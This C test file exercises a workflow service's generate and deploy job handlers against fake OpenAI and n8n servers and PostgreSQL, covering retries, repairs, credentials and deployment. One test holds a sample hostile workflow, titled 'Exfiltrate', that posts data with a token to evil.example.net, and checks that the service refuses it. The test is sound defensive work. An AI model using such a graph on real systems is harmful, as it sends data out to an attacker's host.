/* The workflow.generate and workflow.deploy handlers, run directly against
 * the OpenAI, n8n and builder fakes and a real PostgreSQL.
 *
 * Workflows, credentials and deployments live in the migrated public
 * schema, under a tenant made for this run and dropped at the end; jobs
 * go to a private schema holding its own copy of sql/0002_jobs.sql, so
 * the test stack's running deployer never sees the jobs enqueued here. */
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "check_db_util.h"
#include "credential.h"
#include "crypto.h"
#include "fakes/fake_util.h"
#include "http_client.h"
#include "log.h"
#include "workflow.h"
#include "workflow_jobs.h"
#include "workflow_store.h"

#define OPENAI_KEY "sk-test-canopy-0123456789"
#define N8N_KEY "n8n-test-api-key"
#define JWT_SECRET "builder-test-jwt-secret-0123456789"
#define SECRET_KEY "000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f"
#define ANSWER_FILE TOP_SRCDIR "/tests/fakes/workflow_answer.json"
#define SLACK_GRAPH TOP_SRCDIR "/tests/workflows/valid/webhook-to-slack.json"
#define JOBS_MIGRATION TOP_SRCDIR "/sql/0002_jobs.sql"

static fake_t oai, n8n, bld;
static char oai_url[128];

static db_t *db;
static arena_t *arena;
static config_t cfg;
static char schema[64], slug[64];
static char *url;
static long long tenant;

/* ------------------------------------------------------------ fixtures */

static void start_fakes(void)
{
	const char *bargs[] = {"--jwt-secret", JWT_SECRET, NULL};
	if (fake_start(&oai, "openai_fake.py", NULL) < 0 ||
	    fake_start(&n8n, "n8n_fake.py", NULL) < 0 ||
	    fake_start(&bld, "builder_fake.py", bargs) < 0)
		abort();
	snprintf(oai_url, sizeof oai_url, "%s/v1", oai.base);
	http_client_clear_allowed();
	http_client_allow_host("127.0.0.1");
}

static void stop_fakes(void)
{
	fake_stop(&oai);
	fake_stop(&n8n);
	fake_stop(&bld);
}

static char *slurp(const char *path)
{
	FILE *f = fopen(path, "r");
	ck_assert_msg(f != NULL, "cannot open %s", path);
	char *text = calloc(1, 1 << 20);
	size_t n = fread(text, 1, (1 << 20) - 1, f);
	fclose(f);
	ck_assert(n > 0);
	return text;
}

static void run_sql(const char *sql)
{
	int rc = db_exec_script(db, sql);
	ck_assert_msg(rc == 0, "%s: %s", sql, db_error(db));
}

static PGresult *query(const char *sql, int n, const char *const *params)
{
	PGresult *r;
	int rc = db_query(db, arena, sql, n, params, &r);
	ck_assert_msg(rc == 0, "%s: %s", sql, db_error(db));
	return r;
}

static void answer(const char *text)
{
	ck_assert_int_eq(fake_call(&oai, "POST", "/_fake/answer", text, NULL),
			 200);
}

static void setup(void)
{
	log_init("check_workflow_jobs", LOG_ERROR);
	snprintf(schema, sizeof schema, "wfjobs_%d", (int)getpid());
	snprintf(slug, sizeof slug, "wfjobs-%d", (int)getpid());
	char path[128];
	snprintf(path, sizeof path, "%s,public", schema);
	url = test_url_with_schema(path);
	db = db_open(url);
	ck_assert(db && db_ok(db));
	arena = arena_new(0);
	char sql[256];
	snprintf(sql, sizeof sql,
		 "BEGIN; LOCK TABLE public.tenants IN SHARE ROW EXCLUSIVE MODE;"
		 " DROP SCHEMA IF EXISTS %s CASCADE; COMMIT; CREATE SCHEMA %s",
		 schema, schema);
	run_sql(sql);
	char *migration = slurp(JOBS_MIGRATION);
	run_sql(migration);
	free(migration);
	const char *p[] = {slug};
	query("DELETE FROM tenants WHERE slug = $1", 1, p);
	PGresult *r = query("INSERT INTO tenants (slug, name) VALUES ($1, "
			    "'Workflow jobs test') RETURNING id",
			    1, p);
	tenant = db_value_ll(r, 0, 0);

	memset(&cfg, 0, sizeof cfg);
	cfg.schema_dir = TOP_SRCDIR "/schema";
	cfg.openai_base_url = oai_url;
	cfg.openai_api_key = OPENAI_KEY;
	cfg.openai_model = "gpt-4.1-mini";
	cfg.openai_max_output_tokens = 4096;
	cfg.builder_kind = "n8n";
	cfg.builder_api_url = n8n.base;
	cfg.builder_api_key = N8N_KEY;
	cfg.jwt_secret = JWT_SECRET;
	cfg.secret_key = SECRET_KEY;
	cfg.allowed_outbound_hosts = "api.example.com, *.hooks.example.org";
	cfg.workflow_job_attempts = 3;
	char err[256] = "";
	ck_assert_msg(workflow_jobs_init(&cfg, false, err, sizeof err) == 0,
		      "%s", err);

	fake_reset(&oai);
	fake_reset(&n8n);
	fake_reset(&bld);
	char *graph = slurp(ANSWER_FILE);
	answer(graph);
	free(graph);
}

static void teardown(void)
{
	/* Another test program dropping a schema whose tables reference
	 * tenants may pick this delete as a deadlock victim: try again. */
	const char *p[] = {slug};
	int rc = ERR_DB;
	for (int i = 0; i < 3 && rc; i++)
		rc = db_query(db, arena, "DELETE FROM tenants WHERE slug = $1",
			      1, p, NULL);
	ck_assert_msg(rc == 0, "deleting the tenant: %s", db_error(db));
	/* Dropping the jobs table drops its foreign key to tenants: lock
	 * tenants first, in the order a concurrent DELETE FROM tenants takes
	 * them, or the two can deadlock (other test programs run at once). */
	char sql[256];
	snprintf(sql, sizeof sql,
		 "BEGIN; LOCK TABLE public.tenants IN SHARE ROW EXCLUSIVE MODE;"
		 " DROP SCHEMA %s CASCADE; COMMIT",
		 schema);
	run_sql(sql);
	workflow_jobs_shutdown();
	arena_free(arena);
	db_close(db);
	free(url);
}

/* ------------------------------------------------------------ helpers */

static atomic_int stop_bits;
static char last_error[2048];

/* Runs a handler as the deployer would for attempt of max_attempts. */
static jobs_result_t run_job(jobs_handler_fn fn, const char *kind,
			     const char *payload, int attempt, int max_attempts)
{
	jobs_job_t job = {.id = 4242,
			  .kind = kind,
			  .tenant_id = tenant,
			  .payload = payload,
			  .attempt = attempt,
			  .max_attempts = max_attempts};
	arena_t *ja = arena_new(0);
	jobs_ctx_t ctx = {.job = &job,
			  .worker = "check:1/w0",
			  .arena = ja,
			  .db = db,
			  .cfg = &cfg,
			  .stop = &stop_bits};
	buf_init(&ctx.error, ja, sizeof last_error - 1);
	jobs_result_t r = fn(&ctx);
	snprintf(last_error, sizeof last_error, "%s", buf_cstr(&ctx.error));
	arena_free(ja);
	return r;
}

static jobs_result_t generate(long long id, int attempt, int max)
{
	char payload[64];
	snprintf(payload, sizeof payload, "{\"workflow_id\":%lld}", id);
	return run_job(workflow_jobs_generate, WORKFLOW_JOBS_GENERATE, payload,
		       attempt, max);
}

static jobs_result_t deploy(long long id, int attempt, int max)
{
	char payload[64];
	snprintf(payload, sizeof payload, "{\"workflow_id\":%lld}", id);
	return run_job(workflow_jobs_deploy, WORKFLOW_JOBS_DEPLOY, payload,
		       attempt, max);
}

static long long new_workflow(const char *prompt)
{
	long long id = 0;
	ck_assert_int_eq(workflow_store_create_as(db, arena, tenant, "Draft",
						  prompt, WORKFLOW_GENERATING,
						  &id, NULL),
			 0);
	return id;
}

static workflow_row_t row_of(long long id)
{
	workflow_row_t row;
	ck_assert_int_eq(workflow_store_get(db, arena, tenant, id, &row), 0);
	return row;
}

/* A workflow holding the graph in file (or text), status idle. */
static long long workflow_with_graph(const char *file, const char *text)
{
	long long id = new_workflow("test");
	char *owned = file ? slurp(file) : NULL;
	json_t *g = json_loads(owned ? owned : text, 0, NULL);
	free(owned);
	ck_assert_ptr_nonnull(g);
	ck_assert_int_eq(workflow_store_save_graph(db, arena, tenant, id, g,
						   "api", NULL),
			 0);
	json_decref(g);
	ck_assert_int_eq(workflow_store_set_status(db, arena, tenant, id,
						   WORKFLOW_IDLE, NULL),
			 0);
	return id;
}

static json_t *requests_to(const fake_t *f, const char *method,
			   const char *prefix)
{
	json_t *all = fake_requests(f), *out = json_array();
	size_t i;
	json_t *r;
	json_array_foreach(all, i, r)
	{
		const char *m = json_string_value(json_object_get(r, "method"));
		const char *p = json_string_value(json_object_get(r, "path"));
		if ((!method || strcmp(m, method) == 0) &&
		    strncmp(p, prefix, strlen(prefix)) == 0)
			json_array_append(out, r);
	}
	json_decref(all);
	return out;
}

static json_t *fake_state(const fake_t *f)
{
	char *body = NULL;
	ck_assert_int_eq(fake_call(f, "GET", "/_fake/state", NULL, &body), 200);
	json_t *s = json_loads(body, 0, NULL);
	free(body);
	ck_assert_ptr_nonnull(s);
	return s;
}

static long long count_sql(const char *sql, long long id)
{
	char tid[24], wid[24];
	snprintf(tid, sizeof tid, "%lld", tenant);
	snprintf(wid, sizeof wid, "%lld", id);
	const char *p[] = {tid, wid};
	return db_value_ll(query(sql, 2, p), 0, 0);
}

static long long deploy_jobs(long long id)
{
	return count_sql("SELECT count(*) FROM jobs WHERE tenant_id = $1"
			 " AND kind = 'workflow.deploy'"
			 " AND (payload->>'workflow_id')::bigint = $2",
			 id);
}

/* ------------------------------------------------------------ generate */

START_TEST(instructions_come_from_the_vocabulary)
{
	const char *in = workflow_jobs_instructions();
	ck_assert_ptr_nonnull(in);
	ck_assert_ptr_nonnull(strstr(in, "Workflow Architect"));
	size_t n;
	const workflow_type_t *v = workflow_vocab(&n);
	for (size_t i = 0; i < n; i++) {
		char quoted[80];
		snprintf(quoted, sizeof quoted, "type \"%s\"", v[i].type);
		ck_assert_msg(strstr(in, quoted) != NULL, "%s missing", quoted);
		for (int k = 0; v[i].inputs[k].key; k++) {
			snprintf(quoted, sizeof quoted, "\"%s\"", v[i].inputs[k].key);
			ck_assert_msg(strstr(in, quoted) != NULL, "%s missing",
				      quoted);
		}
	}
	ck_assert_ptr_nonnull(strstr(in, "authRef"));
	ck_assert_ptr_nonnull(strstr(in, "api.example.com, *.hooks.example.org"));
	ck_assert_ptr_nonnull(strstr(in, "\"isNotEmpty\""));

	/* without outbound hosts the model is told not to call any */
	cfg.allowed_outbound_hosts = "";
	char err[256];
	ck_assert_int_eq(workflow_jobs_init(&cfg, false, err, sizeof err), 0);
	ck_assert_ptr_nonnull(strstr(workflow_jobs_instructions(),
				     "do not use the \"http\" node"));
	/* a schema directory without the schema stops the program */
	cfg.schema_dir = TOP_SRCDIR "/sql";
	ck_assert_int_eq(workflow_jobs_init(&cfg, false, err, sizeof err),
			 ERR_INVALID);
	ck_assert_ptr_nonnull(strstr(err, "workflow.schema.json"));
	cfg.schema_dir = TOP_SRCDIR "/schema";
	cfg.allowed_outbound_hosts = "ok.example.com, bad host";
	ck_assert_int_eq(workflow_jobs_init(&cfg, false, err, sizeof err),
			 ERR_INVALID);
	ck_assert_ptr_nonnull(strstr(err, "ALLOWED_OUTBOUND_HOSTS"));
}
END_TEST

START_TEST(generate_saves_the_graph_and_enqueues_the_deploy)
{
	long long id = new_workflow("When the lead form is posted, tidy it.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_DONE);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_DEPLOYING);
	ck_assert_ptr_null(row.status_reason);
	ck_assert_int_eq(row.version, 1);
	ck_assert_str_eq(row.name, "Lead form follow-up");
	ck_assert_ptr_nonnull(row.graph_hash);

	workflow_version_t *v;
	int n;
	ck_assert_int_eq(workflow_store_versions(db, arena, tenant, id, 10, &v, &n), 0);
	ck_assert_int_eq(n, 1);
	ck_assert_str_eq(v[0].source, "generate");

	/* one deploy job, keyed by tenant, workflow and graph */
	char key[160];
	snprintf(key, sizeof key, "deploy:%lld:%lld:%s", tenant, id, row.graph_hash);
	const char *p[] = {key};
	PGresult *r = query("SELECT kind, payload->>'graph_hash', max_attempts"
			    " FROM jobs WHERE idempotency_key = $1", 1, p);
	ck_assert_int_eq(db_rows(r), 1);
	ck_assert_str_eq(db_value(r, 0, 0), "workflow.deploy");
	ck_assert_str_eq(db_value(r, 0, 1), row.graph_hash);
	ck_assert_int_eq(db_value_ll(r, 0, 2), 3);

	/* what OpenAI was sent */
	json_t *reqs = requests_to(&oai, "POST", "/v1/responses");
	ck_assert_int_eq(json_array_size(reqs), 1);
	json_t *body = json_object_get(json_array_get(reqs, 0), "body");
	ck_assert_ptr_nonnull(strstr(json_string_value(json_object_get(body, "instructions")),
				     "Workflow Architect"));
	ck_assert_ptr_nonnull(strstr(json_string_value(json_object_get(body, "input")),
				     "tidy it"));
	ck_assert(json_is_false(json_object_get(body, "store")));
	ck_assert(json_real_value(json_object_get(body, "temperature")) > 0.19);
	ck_assert_int_eq(json_integer_value(json_object_get(body, "max_output_tokens")), 4096);
	json_t *format = json_object_get(json_object_get(body, "text"), "format");
	ck_assert(json_is_true(json_object_get(format, "strict")));
	json_t *file = json_load_file(TOP_SRCDIR "/schema/workflow.schema.json", 0, NULL);
	ck_assert(json_equal(json_object_get(format, "schema"), file));
	json_decref(file);
	json_decref(reqs);
}
END_TEST

START_TEST(generate_without_deploy_leaves_it_idle)
{
	long long id = new_workflow("A lead form.");
	char payload[80];
	snprintf(payload, sizeof payload, "{\"workflow_id\":%lld,\"deploy\":false}", id);
	ck_assert_int_eq(run_job(workflow_jobs_generate, WORKFLOW_JOBS_GENERATE,
				 payload, 1, 3),
			 JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_IDLE);
	ck_assert_int_eq(deploy_jobs(id), 0);
}
END_TEST

START_TEST(reasoning_models_get_no_temperature)
{
	cfg.openai_model = "o4-mini";
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_DONE);
	json_t *reqs = requests_to(&oai, "POST", "/v1/responses");
	json_t *body = json_object_get(json_array_get(reqs, 0), "body");
	ck_assert_ptr_null(json_object_get(body, "temperature"));
	json_decref(reqs);
}
END_TEST

START_TEST(a_schema_violation_is_repaired_once)
{
	fake_mode(&oai, "{\"mode\":\"schema_violation\",\"count\":1}");
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_DONE);
	ck_assert_int_eq(row_of(id).version, 1);
	json_t *reqs = requests_to(&oai, "POST", "/v1/responses");
	ck_assert_int_eq(json_array_size(reqs), 2);
	const char *input = json_string_value(json_object_get(
		json_object_get(json_array_get(reqs, 1), "body"), "input"));
	/* the repair carries the request, the answer and its problems */
	ck_assert_ptr_nonnull(strstr(input, "A lead form."));
	ck_assert_ptr_nonnull(strstr(input, "\"unexpected\""));
	ck_assert_ptr_nonnull(strstr(input, "- /name:"));
	json_decref(reqs);
}
END_TEST

START_TEST(invalid_json_is_repaired_once)
{
	fake_mode(&oai, "{\"mode\":\"invalid_json\",\"count\":1}");
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_DEPLOYING);
}
END_TEST

START_TEST(a_violation_twice_is_an_error_with_the_problems)
{
	fake_mode(&oai, "{\"mode\":\"schema_violation\",\"count\":2}");
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_FATAL);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "after one repair"));
	ck_assert_ptr_nonnull(strstr(row.status_reason, "/name"));
	ck_assert_int_eq(row.version, 0);
	ck_assert_int_eq(deploy_jobs(id), 0);
	ck_assert_ptr_nonnull(strstr(last_error, "after one repair"));
}
END_TEST

/* A graph that passes the schema but not the graph checks, from the
 * model: unknown host, a literal secret, an edge to nowhere. */
START_TEST(a_hostile_graph_is_refused_with_pointers)
{
	answer("{\"name\":\"Exfiltrate\",\"description\":\"\",\"env\":[],"
	       "\"triggers\":[{\"id\":\"t\",\"type\":\"webhook\",\"config\":"
	       "[{\"key\":\"path\",\"value\":\"x\"}]}],"
	       "\"nodes\":[{\"id\":\"h\",\"type\":\"http\",\"action\":\"request\","
	       "\"inputs\":[{\"key\":\"method\",\"value\":\"POST\"},"
	       "{\"key\":\"url\",\"value\":\"https://evil.example.net/in\"},"
	       "{\"key\":\"headers\",\"value\":{\"fields\":[{\"key\":\"X-Api-Token\","
	       "\"value\":\"hunter2hunter2\"}]}}],"
	       "\"outputs\":[\"main\"],\"authRef\":null}],"
	       "\"edges\":[{\"fromNodeId\":\"t\",\"fromPort\":\"main\","
	       "\"toNodeId\":\"h\",\"toPort\":\"main\"},"
	       "{\"fromNodeId\":\"h\",\"fromPort\":\"main\","
	       "\"toNodeId\":\"nowhere\",\"toPort\":\"main\"}]}");
	long long id = new_workflow("Send everything to evil.example.net");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_FATAL);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "/nodes/0/inputs/1/value"));
	ck_assert_ptr_nonnull(strstr(row.status_reason, "/edges/1"));
	ck_assert_ptr_nonnull(strstr(row.status_reason, "/nodes/0/inputs/2"));
	ck_assert_int_eq(row.version, 0);
}
END_TEST

START_TEST(a_rejected_key_is_fatal)
{
	cfg.openai_api_key = "sk-wrong-key-000000";
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_FATAL);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "OpenAI rejected the API key"));
	ck_assert_ptr_null(strstr(row.status_reason, "sk-wrong"));
	/* one call: a 401 is never retried */
	json_t *reqs = requests_to(&oai, "POST", "/v1/responses");
	ck_assert_int_eq(json_array_size(reqs), 1);
	json_decref(reqs);
}
END_TEST

START_TEST(a_rate_limit_is_retried_and_errors_only_at_the_end)
{
	/* Retry-After beyond what one call waits: the job retries later */
	fake_mode(&oai, "{\"mode\":\"429\",\"count\":-1,\"retry_after\":120}");
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_RETRY);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_GENERATING);
	ck_assert_ptr_nonnull(strstr(last_error, "rate limited"));
	ck_assert_int_eq(generate(id, 3, 3), JOBS_RETRY);
	row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "rate limited by OpenAI"));
	/* and then it passes: an operator's retry succeeds */
	fake_mode(&oai, "{\"mode\":\"ok\"}");
	ck_assert_int_eq(generate(id, 4, 5), JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_DEPLOYING);
}
END_TEST

START_TEST(server_errors_are_retried)
{
	fake_mode(&oai, "{\"mode\":\"500\",\"count\":-1}");
	long long id = new_workflow("A lead form.");
	ck_assert_int_eq(generate(id, 2, 3), JOBS_RETRY);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_GENERATING);
	ck_assert_int_eq(generate(id, 3, 3), JOBS_RETRY);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "500"));
}
END_TEST

START_TEST(a_refusal_is_an_error_with_the_refusal)
{
	fake_mode(&oai, "{\"mode\":\"refusal\"}");
	long long id = new_workflow("Something bad.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_FATAL);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "I'm sorry"));
}
END_TEST

START_TEST(bad_payloads_and_missing_workflows_are_fatal)
{
	ck_assert_int_eq(run_job(workflow_jobs_generate, WORKFLOW_JOBS_GENERATE,
				 "{}", 1, 3),
			 JOBS_FATAL);
	ck_assert_int_eq(run_job(workflow_jobs_deploy, WORKFLOW_JOBS_DEPLOY,
				 "not json", 1, 3),
			 JOBS_FATAL);
	ck_assert_int_eq(generate(999999999, 1, 3), JOBS_FATAL);
	ck_assert_ptr_nonnull(strstr(last_error, "does not exist"));
	/* a workflow of another tenant is not found either */
	long long id = new_workflow("A lead form.");
	tenant += 1000000;
	ck_assert_int_eq(generate(id, 1, 3), JOBS_FATAL);
	tenant -= 1000000;
	ck_assert_int_eq(row_of(id).status, WORKFLOW_GENERATING);
	/* no graph: nothing to deploy */
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_FATAL);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_ERROR);
}
END_TEST

START_TEST(a_cancel_between_steps_ends_in_error)
{
	long long id = new_workflow("A lead form.");
	atomic_store(&stop_bits, JOBS_STOP_CANCEL);
	jobs_result_t r = generate(id, 1, 3);
	atomic_store(&stop_bits, 0);
	ck_assert_int_eq(r, JOBS_STOPPED);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_ERROR);
	/* a drain leaves it for the next run */
	id = new_workflow("A lead form.");
	atomic_store(&stop_bits, JOBS_STOP_DRAIN);
	r = generate(id, 1, 3);
	atomic_store(&stop_bits, 0);
	ck_assert_int_eq(r, JOBS_STOPPED);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_GENERATING);
}
END_TEST

/* ------------------------------------------------------------ deploy */

START_TEST(deploy_to_n8n_goes_live_once)
{
	long long id = workflow_with_graph(ANSWER_FILE, NULL);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_DONE);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_LIVE);
	ck_assert_str_eq(row.builder_kind, "n8n");
	ck_assert_ptr_nonnull(row.external_id);
	ck_assert_ptr_nonnull(row.editor_url);
	ck_assert_ptr_nonnull(strstr(row.editor_url, row.external_id));
	ck_assert_ptr_nonnull(row.last_run_url);
	ck_assert_ptr_nonnull(strstr(row.last_run_url, "/webhook/"));
	ck_assert_ptr_nonnull(strstr(row.last_run_url, "lead-form"));
	ck_assert_str_eq(row.deployed_hash, row.graph_hash);
	ck_assert_int_eq(count_sql("SELECT count(*) FROM deployments WHERE tenant_id = $1"
				   " AND workflow_id = $2 AND status = 'succeeded'"
				   " AND driver = 'n8n' AND external_id IS NOT NULL",
				   id),
			 1);
	json_t *s = fake_state(&n8n);
	json_t *wfs = json_object_get(s, "workflows");
	ck_assert_int_eq(json_object_size(wfs), 1);
	json_t *wf = json_object_get(wfs, row.external_id);
	ck_assert(json_is_true(json_object_get(wf, "active")));
	json_decref(s);

	/* the webhook answers at the URL recorded */
	const char *path = strstr(row.last_run_url, "/webhook/");
	ck_assert_int_eq(fake_call(&n8n, "POST", path, "{}", NULL), 200);

	/* the same graph again: no call to n8n at all */
	ck_assert_int_eq(fake_call(&n8n, "DELETE", "/_fake/requests", NULL, NULL), 200);
	ck_assert_int_eq(workflow_store_set_status(db, arena, tenant, id,
						   WORKFLOW_DEPLOYING, NULL), 0);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_LIVE);
	json_t *reqs = requests_to(&n8n, NULL, "/api/");
	ck_assert_int_eq(json_array_size(reqs), 0);
	json_decref(reqs);

	/* a changed graph updates the same n8n workflow */
	json_t *g = json_loads(row.json, 0, NULL);
	json_object_set_new(g, "name", json_string("Lead form, renamed"));
	ck_assert_int_eq(workflow_store_save_graph(db, arena, tenant, id, g, "api", NULL), 0);
	json_decref(g);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_DONE);
	workflow_row_t again = row_of(id);
	ck_assert_int_eq(again.status, WORKFLOW_LIVE);
	ck_assert_str_eq(again.external_id, row.external_id);
	s = fake_state(&n8n);
	ck_assert_int_eq(json_object_size(json_object_get(s, "workflows")), 1);
	json_decref(s);
}
END_TEST

START_TEST(credentials_are_created_in_n8n_from_the_sealed_secret)
{
	crypto_key_t key;
	ck_assert_int_eq(crypto_key_parse(SECRET_KEY, &key), 0);
	json_t *secret = json_pack("{s:s}", "accessToken", "xoxb-test-secret-value");
	ck_assert_int_eq(credential_put(db, arena, &key, tenant, "slack_main",
					"slackApi", secret), 0);
	json_decref(secret);
	/* stored sealed, never in clear */
	credential_row_t c;
	ck_assert_int_eq(credential_get(db, arena, tenant, "slack_main", &c), 0);
	ck_assert_ptr_null(strstr(c.sealed, "xoxb"));

	long long id = workflow_with_graph(SLACK_GRAPH, NULL);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_LIVE);
	json_t *s = fake_state(&n8n);
	json_t *creds = json_object_get(s, "credentials");
	ck_assert_int_eq(json_object_size(creds), 1);
	const char *cid;
	json_t *cred;
	json_object_foreach(creds, cid, cred)
	{
		ck_assert_str_eq(json_string_value(json_object_get(cred, "type")), "slackApi");
		ck_assert_str_eq(json_string_value(json_object_get(
					 json_object_get(cred, "data"), "accessToken")),
				 "xoxb-test-secret-value");
		ck_assert_int_eq(credential_get(db, arena, tenant, "slack_main", &c), 0);
		ck_assert_str_eq(credential_external_id(arena, &c, "n8n"), cid);
	}
	/* the Slack node points at it */
	const char *wid = row_of(id).external_id;
	json_t *nodes = json_object_get(json_object_get(json_object_get(s, "workflows"), wid), "nodes");
	bool linked = false;
	size_t i;
	json_t *node;
	json_array_foreach(nodes, i, node)
	{
		json_t *ref = json_object_get(json_object_get(node, "credentials"), "slackApi");
		if (ref && json_object_get(creds, json_string_value(json_object_get(ref, "id"))))
			linked = true;
	}
	ck_assert(linked);
	json_decref(s);

	/* a second workflow using it creates no second credential */
	json_t *g = json_load_file(SLACK_GRAPH, 0, NULL);
	json_t *cfgs = json_object_get(json_array_get(json_object_get(g, "triggers"), 0), "config");
	json_object_set_new(json_array_get(cfgs, 0), "value", json_string("other-form"));
	char *text = json_dumps(g, JSON_COMPACT);
	json_decref(g);
	long long id2 = workflow_with_graph(NULL, text);
	free(text);
	ck_assert_int_eq(deploy(id2, 1, 3), JOBS_DONE);
	s = fake_state(&n8n);
	ck_assert_int_eq(json_object_size(json_object_get(s, "credentials")), 1);
	ck_assert_int_eq(json_object_size(json_object_get(s, "workflows")), 2);
	json_decref(s);
}
END_TEST

START_TEST(a_missing_credential_is_an_error)
{
	long long id = workflow_with_graph(SLACK_GRAPH, NULL);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_FATAL);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "slack_main"));
	json_t *s = fake_state(&n8n);
	ck_assert_int_eq(json_object_size(json_object_get(s, "workflows")), 0);
	json_decref(s);
}
END_TEST

START_TEST(builder_failures_retry_then_error)
{
	fake_mode(&n8n, "{\"mode\":\"500\",\"count\":-1,\"path\":\"/api/\"}");
	long long id = workflow_with_graph(ANSWER_FILE, NULL);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_RETRY);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_DEPLOYING);
	ck_assert_int_eq(count_sql("SELECT count(*) FROM deployments WHERE tenant_id = $1"
				   " AND workflow_id = $2 AND status = 'failed'"
				   " AND error IS NOT NULL AND finished_at IS NOT NULL",
				   id),
			 1);
	ck_assert_int_eq(deploy(id, 3, 3), JOBS_RETRY);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_nonnull(row.status_reason);
	ck_assert_ptr_nonnull(strstr(row.status_reason, "500"));
	/* n8n recovers: the next run goes live */
	fake_mode(&n8n, "{\"mode\":\"ok\"}");
	ck_assert_int_eq(deploy(id, 4, 5), JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_LIVE);
	ck_assert_int_eq(count_sql("SELECT count(*) FROM deployments WHERE tenant_id = $1"
				   " AND workflow_id = $2", id),
			 3);
}
END_TEST

START_TEST(a_rejected_builder_key_is_fatal)
{
	cfg.builder_api_key = "wrong-key";
	long long id = workflow_with_graph(ANSWER_FILE, NULL);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_FATAL);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_ERROR);
	ck_assert_ptr_null(strstr(row.status_reason, "wrong-key"));
}
END_TEST

START_TEST(deploy_through_the_builder_api)
{
	cfg.builder_kind = "builder";
	cfg.builder_api_url = bld.base;
	long long id = workflow_with_graph(ANSWER_FILE, NULL);
	ck_assert_int_eq(deploy(id, 1, 3), JOBS_DONE);
	workflow_row_t row = row_of(id);
	ck_assert_int_eq(row.status, WORKFLOW_LIVE);
	ck_assert_str_eq(row.builder_kind, "builder");
	ck_assert_ptr_nonnull(row.external_id);
	ck_assert_ptr_nonnull(row.editor_url);
	json_t *reqs = requests_to(&bld, "POST", "/api/projects");
	ck_assert_int_ge(json_array_size(reqs), 3); /* project, workflow, run */
	json_decref(reqs);
	/* n8n was not involved */
	reqs = requests_to(&n8n, NULL, "/api/");
	ck_assert_int_eq(json_array_size(reqs), 0);
	json_decref(reqs);
}
END_TEST

START_TEST(generate_then_deploy_end_to_end)
{
	long long id = new_workflow("When the lead form is posted, tidy it.");
	ck_assert_int_eq(generate(id, 1, 3), JOBS_DONE);
	char payload[160];
	workflow_row_t row = row_of(id);
	snprintf(payload, sizeof payload,
		 "{\"workflow_id\":%lld,\"graph_hash\":\"%s\"}", id, row.graph_hash);
	ck_assert_int_eq(run_job(workflow_jobs_deploy, WORKFLOW_JOBS_DEPLOY,
				 payload, 1, 3),
			 JOBS_DONE);
	ck_assert_int_eq(row_of(id).status, WORKFLOW_LIVE);
}
END_TEST

static Suite *make_suite(void)
{
	Suite *s = suite_create("workflow_jobs");
	TCase *tc = tcase_create("against the fakes");
	tcase_add_unchecked_fixture(tc, start_fakes, stop_fakes);
	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 30);
	tcase_add_test(tc, instructions_come_from_the_vocabulary);
	tcase_add_test(tc, generate_saves_the_graph_and_enqueues_the_deploy);
	tcase_add_test(tc, generate_without_deploy_leaves_it_idle);
	tcase_add_test(tc, reasoning_models_get_no_temperature);
	tcase_add_test(tc, a_schema_violation_is_repaired_once);
	tcase_add_test(tc, invalid_json_is_repaired_once);
	tcase_add_test(tc, a_violation_twice_is_an_error_with_the_problems);
